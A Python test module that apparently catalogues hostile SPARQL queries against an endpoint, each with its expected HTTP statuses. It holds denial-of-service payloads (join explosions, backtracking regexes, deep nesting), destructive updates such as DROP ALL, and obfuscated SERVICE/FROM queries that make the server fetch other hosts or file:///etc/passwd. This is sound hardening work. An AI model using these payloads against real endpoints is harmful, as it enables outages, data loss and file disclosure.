"""Queries that are meant to fell whoever evaluates them, and what each may be answered."""

from collections.abc import Iterable, Mapping, Sequence
from dataclasses import dataclass, field

from hostile.attacker import BROKEN

__all__ = ["BOMBS", "FEDERATED", "FOREIGN", "Bomb"]

# The statuses that a query may be answered with, by what it does.
ENDLESS = (504,)
GREEDY = (504, 507)
FLOOD = (BROKEN, 504, 507)
REFUSED = (400,)
NESTED = (200, 400)
HEAVY = (200, 400, 504, 507)

CSV = "text/csv"
DEPTH = 40_000


@dataclass(frozen=True)
class Bomb:
    """A query, the statuses it may be answered with, and what the client accepts."""

    name: str
    text: str = field(repr=False)
    statuses: Sequence[int]
    accept: str = "*/*"


def _joined(patterns: int) -> str:
    """Return a product of so many patterns that have no variable in common."""
    return " . ".join(f"?s{n} ?p{n} ?o{n}" for n in range(patterns))


def _nested(opening: str, middle: str, closing: str, depth: int = DEPTH) -> str:
    return opening * depth + middle + closing * depth


def _doubled(first: str, step: str, times: int, last: str = "STRLEN(?x{n})") -> str:
    """Return a query that computes ``step`` of its own result again and again."""
    binds = " ".join(f"BIND({step.format(f'?x{n}')} AS ?x{n + 1})" for n in range(times))
    return f"SELECT ({last.format(n=times)} AS ?n) {{ BIND({first} AS ?x0) {binds} }}"


def _select(expression: str) -> str:
    return f"SELECT ({expression} AS ?x) {{}}"


def _where(group: str) -> str:
    return f"SELECT * {{ {group} }}"


def _count(group: str) -> str:
    return f"SELECT (COUNT(*) AS ?n) {{ {group} }}"


def _lines(form: str, count: int, join: str = " ") -> str:
    return join.join(form.format(n=n) for n in range(count))


XSD = "http://www.w3.org/2001/XMLSchema#"
PRODUCT = _joined(2)
NEVER = "FILTER(CONCAT(STR(?o0), STR(?o1), STR(?o2)) = '?')"


def _joins() -> Iterable[Bomb]:
    for patterns in range(3, 7):
        yield Bomb(f"product of {patterns}", _count(_joined(patterns)), ENDLESS)
    rows = " ".join(f"VALUES ?v{n} {{ {_lines('{n}', 100)} }}" for n in range(10))
    yield Bomb("product of VALUES", _count(rows), ENDLESS)
    groups = " ".join(f"GRAPH ?g{n} {{ ?s{n} ?p{n} ?o{n} }}" for n in range(4))
    yield Bomb("product of graphs", _count(groups), ENDLESS)
    selects = " ".join(f"{{ SELECT ?s{n} {{ ?s{n} ?p{n} ?o{n} }} }}" for n in range(4))
    yield Bomb("product of subqueries", _count(selects), ENDLESS)
    yield Bomb("star of 60 lines", _count("?s " + _lines("?p{n} ?o{n}", 60, "; ")), ENDLESS)
    chain = _lines("?x{n} ?p{n} ?x . ?x ?q{n} ?y{n} .", 8)
    yield Bomb("unselective chain", _count(chain), ENDLESS)
    union = " UNION ".join(f"{{ {PRODUCT} }}" for _ in range(200))
    yield Bomb("200 products in UNION", _count(union), ENDLESS)
    optional = _lines("OPTIONAL {{ ?a{n} ?b{n} ?c{n} }}", 5)
    yield Bomb("products in OPTIONAL", _count(optional), ENDLESS)
    optional = _lines("OPTIONAL {{ ?a{n} ?b{n} ?c{n} FILTER(?c{n} = ?s0) }}", 5)
    yield Bomb("filtered products in OPTIONAL", _count(f"{PRODUCT} {optional}"), GREEDY)
    yield Bomb("MINUS of products", _count(f"{PRODUCT} MINUS {{ {_joined(3)} }}"), GREEDY)
    exists = " FILTER({}EXISTS {{ ?x ?y ?z . ?z2 ?y2 ?x2 FILTER(?x = ?o0 && ?x2 = ?s1) }})"
    yield Bomb("EXISTS of products", _count(PRODUCT + exists.format("")), ENDLESS)
    yield Bomb("NOT EXISTS of products", _count(PRODUCT + exists.format("NOT ")), ENDLESS)
    lateral = _lines("LATERAL {{ SELECT * {{ ?a{n} ?b{n} ?c{n} }} }}", 4)
    yield Bomb("product by LATERAL", _count("?s ?p ?o " + lateral), ENDLESS)
    yield Bomb(
        "LIMIT 1 of what never comes", f"SELECT * {{ {_joined(3)} {NEVER} }} LIMIT 1", GREEDY
    )
    yield Bomb("ASK for what never comes", f"ASK {{ {_joined(3)} {NEVER} }}", ENDLESS)
    yield Bomb(
        "OFFSET past the end", f"SELECT * {{ {_joined(3)} }} OFFSET 4611686018427387904", GREEDY
    )
    yield Bomb("OFFSET beyond 64 bits", f"SELECT * {{}} OFFSET {10**30}", REFUSED)
    yield Bomb("LIMIT beyond 64 bits", f"SELECT * {{}} LIMIT {10**30}", REFUSED)
    yield Bomb("LIMIT of all bits", f"SELECT * {{}} LIMIT {2**64 - 1} OFFSET {2**64 - 1}", NESTED)
    yield Bomb("DESCRIBE of a product", f"DESCRIBE * {{ {_joined(3)} }}", FLOOD)


def _sorts() -> Iterable[Bomb]:
    product = _joined(3)
    yield Bomb("ORDER BY", f"SELECT * {{ {product} }} ORDER BY ?o2 LIMIT 1", GREEDY)
    yield Bomb("ORDER BY RAND", f"SELECT * {{ {product} }} ORDER BY RAND() LIMIT 1", GREEDY)
    keys = _lines("STR(?s{n})", 3)
    yield Bomb("ORDER BY 300 keys", f"SELECT * {{ {product} }} ORDER BY {f'{keys} ' * 100}", GREEDY)
    yield Bomb(
        "DISTINCT", f"SELECT (COUNT(*) AS ?n) {{ SELECT DISTINCT * {{ {product} }} }}", GREEDY
    )
    yield Bomb("REDUCED", f"SELECT (COUNT(*) AS ?n) {{ SELECT REDUCED * {{ {product} }} }}", GREEDY)
    yield Bomb("COUNT DISTINCT", f"SELECT (COUNT(DISTINCT *) AS ?n) {{ {product} }}", GREEDY)
    keys = "?s0 ?o0 ?s1 ?o1 ?s2 ?o2"
    yield Bomb(
        "GROUP BY", f"SELECT {keys} (COUNT(*) AS ?n) {{ {product} }} GROUP BY {keys}", GREEDY
    )
    for function in (
        "GROUP_CONCAT(STR(?o0); SEPARATOR='" + "x" * 10_000 + "')",
        "SAMPLE(?o0)",
        "MAX(?o0)",
        "SUM(STRLEN(STR(?o0)))",
        "GROUP_CONCAT(DISTINCT STR(?s1))",
        "AVG(DISTINCT RAND())",
    ):
        yield Bomb(
            f"{function[:23]} of a product", f"SELECT ({function} AS ?x) {{ {product} }}", GREEDY
        )
    yield Bomb("HAVING", f"SELECT ?s0 {{ {product} }} GROUP BY ?s0 HAVING(COUNT(*) < 0)", ENDLESS)
    yield Bomb(
        "subqueries that sort, 200 deep",
        "SELECT * " + _nested("{ SELECT * ", f"{{ {product} }}", " ORDER BY ?o0 }", 200),
        GREEDY,
    )


def _strings() -> Iterable[Bomb]:
    yield Bomb("CONCAT doubled", _doubled("'x'", "CONCAT({0}, {0})", 50), HEAVY)
    yield Bomb("REPLACE doubled", _doubled("'x'", "REPLACE({0}, '(.)', '$1$1')", 50), HEAVY)
    yield Bomb("REPLACE of nothing doubled", _doubled("'x'", "REPLACE({0}, '', 'yy')", 50), HEAVY)
    yield Bomb(
        "ENCODE_FOR_URI tripled", _doubled("'%'", "ENCODE_FOR_URI(CONCAT({0}, {0}))", 50), HEAVY
    )
    yield Bomb("UCASE that grows", _doubled("'ŉΐ'", "LCASE(UCASE(CONCAT({0}, {0})))", 50), HEAVY)
    yield Bomb("hash of much", _doubled("'x'", "CONCAT({0}, {0})", 26, "SHA512(?x{n})"), HEAVY)
    yield Bomb("IRI of much", _doubled("'x:x'", "CONCAT({0}, {0})", 26, "IRI(?x{n})"), HEAVY)
    yield Bomb(
        "much printed much",
        _doubled("'x'", "CONCAT({0}, {0})", 20, "?x{n}").replace("{ BIND", f"{{ {PRODUCT} BIND"),
        FLOOD,
        CSV,
    )
    triples = "TRIPLE({0}, <x:p>, {0})"
    yield Bomb(
        "TRIPLE doubled",
        _doubled("<x:s>", "TRIPLE(<x:s>, <x:p>, {0})", 3000, "ISTRIPLE(?x{n})"),
        HEAVY,
    )
    yield Bomb(
        "triple terms deep and printed",
        _doubled("<x:s>", "TRIPLE(<x:s>, <x:p>, {0})", 3000, "?x{n}"),
        HEAVY,
    )
    yield Bomb("triple terms compared", _doubled("<x:s>", triples, 30, "?x{n} = ?x1"), HEAVY)
    yield Bomb("literal of a megabyte", _select(f"'{'x' * 1_000_000}'"), HEAVY)
    yield Bomb("200,000 escaped letters", _select("'" + "\\u0041" * 150_000 + "'"), HEAVY)
    yield Bomb("CONCAT of 100,000", _select(f"CONCAT({_lines('1', 100_000, ',')})"), HEAVY)
    yield Bomb("COALESCE of 100,000", _select(f"COALESCE({_lines('1/0', 100_000, ',')})"), HEAVY)
    yield Bomb("SUBSTR out of bounds", _select(f"SUBSTR('x', -{2**63 - 1}, {2**63 - 1})"), NESTED)
    every = "SELECT (COUNT(*) AS ?n) {{ {0} FILTER({1}) }}"
    letters = "'" + "a" * 50_000 + "!'"
    yield Bomb("regex that backtracks", _select(f"REGEX({letters}, '^(a+)+$')"), NESTED)
    yield Bomb("regex that counts", _select("REGEX('x', '((a{1,1000}){1,1000}){1,1000}')"), HEAVY)
    yield Bomb(
        "regex of all of Unicode", _select(f"REGEX({letters}, '{chr(92) * 2}w{{1,500}}!!')"), HEAVY
    )
    yield Bomb(
        "regex of half a megabyte", _select(f"REGEX('x', '{_lines('a{n}b', 60_000, '|')}')"), HEAVY
    )
    yield Bomb(
        "regex nested deep", _select(f"REGEX('x', '{_nested('(', 'a', ')', 200_000)}')"), HEAVY
    )
    yield Bomb(
        "regex classes nested deep",
        _select(f"REGEX('x', '{_nested('[a', 'b', ']', 200_000)}')"),
        HEAVY,
    )
    yield Bomb(
        "regex of each row",
        every.format(PRODUCT, "REGEX(STR(?o0), CONCAT('(', STRUUID(), '|a{1,300}b{1,300})'))"),
        ENDLESS,
    )
    yield Bomb(
        "regex of long text for each row",
        every.format(_joined(3), f"REGEX(CONCAT(STR(?o0), STR(?o2), {letters}), '(a|aa)+$')"),
        ENDLESS,
    )
    yield Bomb(
        "IN of 60,000", every.format("?s ?p ?o", f"?o IN ({_lines('{n}', 100_000, ',')})"), HEAVY
    )
    yield Bomb(
        "STRDT for each row",
        every.format(
            PRODUCT,
            f"STRDT(CONCAT(STR(?o0), STR(?o1)), <{XSD}dateTime>) > NOW()",
        ),
        ENDLESS,
    )
    yield Bomb("UUIDs without end", f"SELECT (UUID() AS ?u) {{ {_joined(3)} }}", FLOOD, CSV)
    yield Bomb("blank nodes without end", f"SELECT (BNODE() AS ?b) {{ {_joined(3)} }}", FLOOD, CSV)


def _paths() -> Iterable[Bomb]:
    for path in (
        "(!<x:y>)*",
        "(!<x:y>)+/(!<x:y>)+",
        "(!<x:y>|^!<x:y>)*",
        "((!<x:y>)*)*",
        "(<x:a>|!<x:a>|^(<x:a>|!<x:a>))+",
        "((!<x:a>)?/(!<x:b>)?)*",
        "^((!<x:y>)+)+",
    ):
        yield Bomb(f"path {path}", _count(f"?a {path} ?b . ?c {path} ?d . ?e {path} ?f"), GREEDY)
    yield Bomb(
        "paths joined",
        _count("?a (!<x:y>)* ?b . ?b (!<x:y>)* ?c . ?c (!<x:y>)* ?a . ?d ?e ?f"),
        GREEDY,
    )
    yield Bomb("path of 20,000 steps", _count(f"?a {_lines('!<x:y>', 20_000, '/')} ?b"), HEAVY)
    yield Bomb(
        "path of 20,000 branches", _count(f"?a ({_lines('<x:{n}>', 20_000, '|')})* ?b"), HEAVY
    )
    yield Bomb(
        "path that negates 20,000",
        _count(f"?a (!({_lines('<x:{n}>', 20_000, '|')}))* ?b . {_joined(3)}"),
        HEAVY,
    )
    yield Bomb("path ** nested", _count(f"?a {_nested('(', '!<x:y>', ')*', 1000)} ?b"), HEAVY)
    yield Bomb(
        "path of doubled sequences",
        _count(f"?a {_nested('(', '!<x:y>', '/^!<x:y>)+', 500)} ?b"),
        HEAVY,
    )


def _nests() -> Iterable[Bomb]:
    bodies = {
        "braces": _where(_nested("{", "", "}")),
        "parentheses": _select(_nested("(", "1", ")")),
        "exclamations": _select("!" * 500_000 + "1"),
        "minuses": _select("- " * 250_000 + "1"),
        "pluses": _select("+ " * 250_000 + "1"),
        "functions": _select(_nested("STR(", "1", ")")),
        "IFs": _select(_nested("IF(1,1,", "1", ")")),
        "IFs on the left": _select(_nested("IF(", "1", ",1,1)")),
        "COALESCEs": _select(_nested("COALESCE(", "1", ")")),
        "INs": _select(_nested("1 IN (", "1", ")")),
        "comparisons": _select(_nested("(1=", "1", ")")),
        "sum": _select("1" + "+1" * 200_000),
        "difference": _select("1" + "-1" * 200_000),
        "product of numbers": _select("1" + "*1" * 200_000),
        "conjunction": _select("1" + "&&1" * 200_000),
        "disjunction": _select("0" + "||0" * 200_000),
        "blank nodes": _where("?s <x:p> " + _nested("[<x:p> ", "1", "]")),
        "collections": _where("?s <x:p> " + _nested("(", "1", ")", 2_000)),
        "collections, deeper": _where("?s <x:p> " + _nested("(", "1", ")")),
        "long collection": _where(f"?s <x:p> ({_lines('{n}', 50_000)})"),
        "triple terms": _where("?s <x:p> " + _nested("<<(<x:s> <x:p> ", "1", ")>>", 20_000)),
        "reified triples": _where("?s <x:p> " + _nested("<<<x:s> <x:p> ", "1", ">>", 20_000)),
        "annotations": _where("<x:s> <x:p> 1 " + _nested("{| <x:p> 1 ", "", "|}", 20_000)),
        "OPTIONALs": _where(_nested("OPTIONAL{", "", "}")),
        "MINUSes": _where(_nested("MINUS{?s ?p ?o ", "", "}")),
        "UNIONs": _where(_nested("{}UNION{", "", "}")),
        "row of UNIONs": _where("{}" + "UNION{}" * 100_000),
        "row of OPTIONALs": _where("OPTIONAL{?s ?p 1}" * 20_000),
        "row of MINUSes": _where("?s ?p ?o " + "MINUS{?s ?p 1}" * 20_000),
        "row of FILTERs": _where("FILTER(1)" * 80_000),
        "row of BINDs": _where(_lines("BIND({n} AS ?x{n})", 40_000)),
        "row of groups": _where("{}" * 400_000),
        "row of LATERALs": _where("LATERAL{}" * 80_000),
        "EXISTS": _where(_nested("FILTER EXISTS{", "", "}")),
        "NOT EXISTS": _where(_nested("FILTER(NOT EXISTS{?s ?p ?o ", "", "})", 20_000)),
        "EXISTS with triples": _count(
            "?s ?p ?o " + _nested("FILTER EXISTS{?s ?p ?o ", "", "}", 500)
        ),
        "GRAPHs": _where(_nested("GRAPH ?g{", "", "}")),
        "LATERALs": _where(_nested("LATERAL{", "", "}")),
        "subqueries": "SELECT * " + _nested("{SELECT * ", "{}", "}"),
        "subqueries with triples": "SELECT * " + _nested("{?s ?p ?o{SELECT * ", "{}", "}}", 800),
        "path parentheses": _where("?s " + _nested("(", "<x:p>", ")") + " ?o"),
        "path inversions": _where("?s " + "^" * 500_000 + "<x:p> ?o"),
        "path inversions in parentheses": _where("?s " + _nested("^(", "<x:p>", ")") + " ?o"),
        "path of alternatives": _where("?s " + _nested("(<x:p>|", "<x:p>", ")*", 20_000) + " ?o"),
        "template": f"CONSTRUCT {{ <x:s> <x:p> {_nested('[<x:p> ', '1', ']')} }} {{}}",
        "half of the braces": _where("{" * 500_000),
        "other half of the braces": "SELECT * {" + "}" * 500_000,
        "half of the quotes": _where("'" * 999_999),
        "half of the brackets": _where("[" * 999_000),
        "half of the IRIs": _where("<" * 999_000),
        "semicolons": _count("?s ?p ?o " + ";" * 900_000),
        "comments": "#\n" * 400_000 + "ASK {}",
        "backslashes": _select("'" + "\\\\" * 400_000 + "'"),
    }
    for name, text in bodies.items():
        yield Bomb(f"nest of {name}", text, HEAVY)
    for depth in (500, 1000, 1500, 2000, 3000):  # where a stack may run out late, not at once
        yield Bomb(f"{depth} braces", _where(_nested("{", "?s ?p ?o", "}", depth)), HEAVY)
        yield Bomb(f"{depth} MINUSes", _where(_nested("MINUS{?s ?p ?o ", "", "}", depth)), HEAVY)
        yield Bomb(
            f"{depth} ORs of EXISTS",
            _count("?s ?p ?o " + _nested("FILTER(EXISTS{?s ?p ?o ", "", "}||?s=1)", depth)),
            HEAVY,
        )


def _sizes() -> Iterable[Bomb]:
    yield Bomb("VALUES of 200,000 rows", _count(f"VALUES ?x {{ {'1 ' * 200_000} }}"), HEAVY)
    yield Bomb(
        "VALUES of 1,000 columns",
        _count(f"VALUES ({_lines('?x{n}', 1000)}) {{ {('(' + 'UNDEF ' * 1000 + ')') * 100} }}"),
        HEAVY,
    )
    yield Bomb(
        "join of VALUES with holes",
        _count(
            f"VALUES (?a ?b) {{ {'(UNDEF 1)(1 UNDEF)' * 10_000} }} "
            f"VALUES (?a ?b) {{ {'(UNDEF UNDEF)' * 20_000} }}"
        ),
        HEAVY,
    )
    yield Bomb("20,000 prefixes", _lines("PREFIX p{n}: <x:{n}> ", 20_000) + "ASK {}", HEAVY)
    yield Bomb(
        "50,000 BASEs", "BASE <http://x/> BASE <a/> " * 25_000 + "ASK { <a> <b> <c> }", HEAVY
    )
    yield Bomb(
        "20,000 FROMs", "SELECT * " + _lines("FROM <x:{n}> ", 20_000) + "{ ?s ?p ?o }", HEAVY
    )
    yield Bomb(
        "20,000 FROM NAMEDs",
        "SELECT * " + _lines("FROM NAMED <x:{n}> ", 20_000) + "{ GRAPH ?g { ?s ?p ?o } }",
        HEAVY,
    )
    yield Bomb("20,000 patterns", _where(_lines("?x{n} ?p ?y{n} .", 20_000)), (*HEAVY, BROKEN))
    yield Bomb("2,000 patterns in a chain", _count(_lines("?x{n} ?p{n} ?x0 .", 2_000)), HEAVY)
    yield Bomb(
        "300 patterns in a star", _count("?s " + _lines("?p{n} 'no such thing'", 300, ";")), HEAVY
    )
    yield Bomb("30,000 columns", f"SELECT {_lines('(1 AS ?x{n})', 30_000)} {{}}", HEAVY)
    yield Bomb(
        "30,000 unbound columns",
        f"SELECT {_lines('?x{n}', 100_000)} {{ ?s ?p ?o }}",
        (*HEAVY, BROKEN),
    )
    yield Bomb(
        "30,000 sort keys", f"SELECT * {{ ?s ?p ?o }} ORDER BY {'?s ' * 30_000}", (*HEAVY, BROKEN)
    )
    yield Bomb("30,000 resources described", "DESCRIBE " + _lines("<x:{n}>", 60_000), HEAVY)
    yield Bomb("variable of a megabyte", f"SELECT ?{'x' * 900_000} {{}}", HEAVY)
    yield Bomb("IRI of a megabyte", f"ASK {{ <x:{'x' * 900_000}> ?p ?o }}", HEAVY)
    yield Bomb("language tag of a megabyte", _select(f"'x'@{'a' * 900_000}"), HEAVY)
    yield Bomb("language tag of 100,000 parts", _select(f"'x'@en{'-a' * 100_000}"), HEAVY)


def _numbers() -> Iterable[Bomb]:
    digits = "9" * 100_000
    for name, expression in {
        "integer of 100,000 digits": f"{digits} * {digits}",
        "decimal of 100,000 digits": f"{digits}.{digits} / 0.{digits}",
        "double of 100,000 digits": f"{digits}.{digits}e{digits[:50]} * 2",
        "smallest integer negated": f"-(-{2**63 - 1} - 1)",
        "smallest integer divided": f"(-{2**63 - 1} - 1) / -1",
        "division by nothing": "1 / 0",
        "date far out": f"'99999999999999999999-01-01'^^<{XSD}date> > NOW()",
        "date at the end of counting": f"YEAR('{2**63 - 1}-12-31T23:59:59Z'^^<{XSD}dateTime>)",
        "date of no month": f"MONTH('2020-99-99T99:99:99Z'^^<{XSD}dateTime>)",
        "duration far out": "NOW() + 'P{0}Y{0}M{0}D'^^<{1}duration>".format("9" * 18, XSD),
        "zone far out": f"TZ('2020-01-01T00:00:00+99:99'^^<{XSD}dateTime>)",
        "rounding of much": f"ROUND({digits[:38]}.5) + CEIL(1e308) + FLOOR(-1e308)",
        "casts of much": f"<{XSD}integer>(1e300) + <{XSD}decimal>('{digits}')",
        "base64 of a megabyte": f"STRDT('{'A' * 900_000}', <{XSD}base64Binary>) = 'x'",
        "no number at all": f"<{XSD}double>('NaN') < <{XSD}double>('INF')",
    }.items():
        yield Bomb(name, _select(expression), NESTED)


def _floods() -> Iterable[Bomb]:
    template = _lines("?s0 <x:{n}> ?o1 .", 200)
    for accept in (
        "text/turtle",
        "application/n-triples",
        "application/rdf+xml",
        "application/ld+json",
    ):
        yield Bomb(
            f"CONSTRUCT as {accept}", f"CONSTRUCT {{ {template} }} {{ {PRODUCT} }}", FLOOD, accept
        )
    for accept in (
        "application/sparql-results+json",
        "application/sparql-results+xml",
        CSV,
        "text/tab-separated-values",
    ):
        yield Bomb(f"product as {accept}", f"SELECT * {{ {_joined(3)} }}", FLOOD, accept)
    yield Bomb(
        "CONSTRUCT of new nodes",
        f"CONSTRUCT {{ {_lines('_:{n} <x:p> _:b .', 200)} }} {{ {PRODUCT} }}",
        FLOOD,
    )
    yield Bomb(
        "CONSTRUCT of 20,000 triples",
        f"CONSTRUCT {{ {_lines('<x:{n}> ?p ?o .', 20_000)} }} {{ ?s ?p ?o }}",
        (*FLOOD, 400),
    )
    yield Bomb("DESCRIBE of all", "DESCRIBE ?s ?p ?o { ?s ?p ?o }", (200, *FLOOD))
    yield Bomb("rows without columns", f"SELECT ?none {{ {_joined(3)} }}", FLOOD, CSV)


def _texts() -> Iterable[Bomb]:
    yield Bomb("NUL", "ASK {\0}", NESTED)
    yield Bomb("NUL in a string", _select("'a\0b'"), NESTED)
    yield Bomb("NUL escaped", _select("'a\\u0000b'"), NESTED)
    yield Bomb("lone surrogate", _select("'\\uD800'"), NESTED)
    yield Bomb("surrogate pair", _select("'\\uD83D\\uDE00'"), NESTED)
    yield Bomb("code point out of range", _select("'\\UFFFFFFFF'"), NESTED)
    yield Bomb("escaped keyword", "\\u0041SK {}", NESTED)
    yield Bomb("byte order mark", "\ufeffASK {}", NESTED)
    yield Bomb("1,000 byte order marks", "\ufeff" * 1000 + "ASK {}", NESTED)
    yield Bomb("noncharacters", _select("'\ufffe\uffff\U0010ffff'"), NESTED)
    yield Bomb("combining marks", _select("'e" + "\u0301" * 300_000 + "'"), NESTED)
    yield Bomb("right to left", _select("'\u202e\u2066\u200f'"), NESTED)
    yield Bomb("line separators", "ASK\u2028{\u2029}\u0085", NESTED)
    yield Bomb("emoji variable", "SELECT ?😀 {}", NESTED)
    yield Bomb("letters of all planes", "SELECT ?𝒳 { ?𝒳 ?𐐀 ?豈 } LIMIT 1", NESTED)
    yield Bomb("control characters", "".join(map(chr, range(32))) + "ASK {}", NESTED)
    yield Bomb("nothing", " ", NESTED)
    yield Bomb("megabyte of spaces", " " * 1_000_000 + "ASK {}", NESTED)
    yield Bomb("megabyte of newlines", "\n" * 1_000_000 + "oops", NESTED)
    yield Bomb("megabyte of one word", "x" * 1_000_000, HEAVY)
    yield Bomb("megabyte of quotes", "ASK { ?s ?p " + '"' * 900_000, HEAVY)
    yield Bomb("IRI that is none", "ASK { <http://[::1> ?p <http://%zz/> }", NESTED)
    for update in (
        "LOAD <http://127.0.0.1/>",
        "INSERT DATA { <x:s> <x:p> 1 }",
        "DROP ALL",
        "CLEAR ALL",
        "DELETE WHERE { ?s ?p ?o }",
        "ASK {} ; CLEAR ALL",
    ):
        yield Bomb(f"update {update[:11]}", update, REFUSED)


# Ways to have another server asked; {0} is its address.
FEDERATED = (
    "SELECT * {{ SERVICE <{0}> {{ ?s ?p ?o }} }}",
    "SELECT * {{ service silent<{0}>{{?s ?p ?o}}}}",
    "SELECT * {{ SeRvIcE SILENT <{0}> {{ ?s ?p ?o }} }}",
    "SELECT * {{ \\u0053ERVICE SILENT <{0}> {{ ?s ?p ?o }} }}",
    "SELECT * {{ S\\U00000045RVICE SILENT <{0}> {{ ?s ?p ?o }} }}",
    "SELECT * {{ SERVICE#comment\nSILENT#'\n<{0}> {{ ?s ?p ?o }} }}",
    "SELECT * {{ '''\\''''?p'#' . SERVICE SILENT <{0}> {{ ?s ?p ?o }} }}",
    'SELECT * {{ ?s ?p "\\"" . SERVICE SILENT <{0}> {{ ?s ?p ?o }} }}',
    "SELECT * {{ ?s ?p 'a'@en.SERVICE SILENT <{0}> {{ ?s ?p ?o }} }}",
    "SELECT * {{ ?s ?p 1.SERVICE SILENT <{0}> {{ ?s ?p ?o }} }}",
    "SELECT * {{ ?s ?p 1e0SERVICE SILENT <{0}> {{ ?s ?p ?o }} }}",
    "SELECT * {{ ?s ?p trueSERVICE SILENT <{0}> {{ ?s ?p ?o }} }}",
    "SELECT * {{ ?s ?p falseSERVICE<{0}> {{ ?s ?p ?o }} }}",
    "SELECT * {{ SERVICESILENT<{0}>{{ ?s ?p ?o }} }}",
    "SELECT * {{ serviceSilent?u{{ ?s ?p ?o }} VALUES ?u {{ <{0}> }} }}",
    "SELECT * {{ BIND(1<2AS?x)SERVICE SILENT <{0}> {{ ?s ?p ?o }} }}",
    "SELECT * {{ FILTER(1<2)SERVICE SILENT <{0}> {{ FILTER(2>1) }} }}",
    "SELECT * {{ VALUES ?u {{ <{0}> }} SERVICE SILENT ?u {{ ?s ?p ?o }} }}",
    "SELECT * {{ BIND(IRI('{0}') AS ?u) SERVICE SILENT ?u {{ ?s ?p ?o }} }}",
    "SELECT * {{ {{ SELECT * {{ OPTIONAL {{ SERVICE SILENT <{0}> {{ ?s ?p ?o }} }} }} }} }}",
    "ASK {{ FILTER EXISTS {{ SERVICE SILENT <{0}> {{ ?s ?p ?o }} }} }}",
    "ASK {{ ?s ?p ?o LATERAL {{ SERVICE SILENT <{0}> {{ ?s ?p ?o }} }} }}",
    "ASK {{ GRAPH ?g {{ {{}} UNION {{ SERVICE SILENT <{0}> {{ ?s ?p ?o }} }} }} }}",
    "PREFIX e: <{0}> SELECT * {{ SERVICE SILENT e: {{ ?s ?p ?o }} }}",
    "BASE <{0}> DESCRIBE ?s {{ SERVICE SILENT <x> {{ ?s ?p ?o }} }}",
    "CONSTRUCT {{ ?s ?p ?o }} {{ SERVICE SILENT <{0}> {{ ?s ?p ?o }} }}",
)

# Ways to have a document fetched; {0} is the address of another server.
FOREIGN = (
    "SELECT * FROM <{0}> {{ ?s ?p ?o }}",
    "SELECT * FROM NAMED <{0}> {{ GRAPH ?g {{ ?s ?p ?o }} }}",
    "SELECT * FROM <file:///etc/passwd> {{ ?s ?p ?o }}",
    "SELECT DISTINCT*FROMNAMED<{0}>{{ ?s ?p ?o }}",
    "SELECT*FROMNAMED<file:///etc/passwd>{{ GRAPH ?g {{ ?s ?p ?o }} }}",
    "SELECT*FROM<{0}>{{ ?s ?p ?o }}",
    "SELECT(1AS?x)FROM<{0}>{{ ?s ?p ?o }}",
    "ASKFROM<{0}>{{ ?s ?p ?o }}",
    "askfrom#\n<{0}>{{ ?s ?p ?o }}",
    "ASKFROMNAMED<{0}>{{ GRAPH ?g {{ ?s ?p ?o }} }}",
    "ASKFROM<{0}>FROMNAMED<file:///etc/passwd>{{ ?s ?p ?o }}",
    "PREFIX FROM:<{0}>ASKFROM FROM:{{ ?s ?p ?o }}",
    "BASE<{0}>ASKFROM<>{{ ?s ?p ?o }}",
    "CONSTRUCTFROM<{0}>WHERE{{ ?s ?p ?o }}",
    "DESCRIBE*FROM<{0}>{{ ?s ?p ?o }}",
    "SELECT * FROM NAMED <file:///etc/passwd> {{ GRAPH ?g {{ ?s ?p ?o }} }}",
    "SELECT * {{ GRAPH <{0}> {{ ?s ?p ?o }} }}",
    "DESCRIBE <{0}>",
)

BOMBS: Mapping[str, Sequence[Bomb]] = {
    family.__name__.lstrip("_"): tuple(family())
    for family in (_joins, _sorts, _strings, _paths, _nests, _sizes, _numbers, _floods, _texts)
}
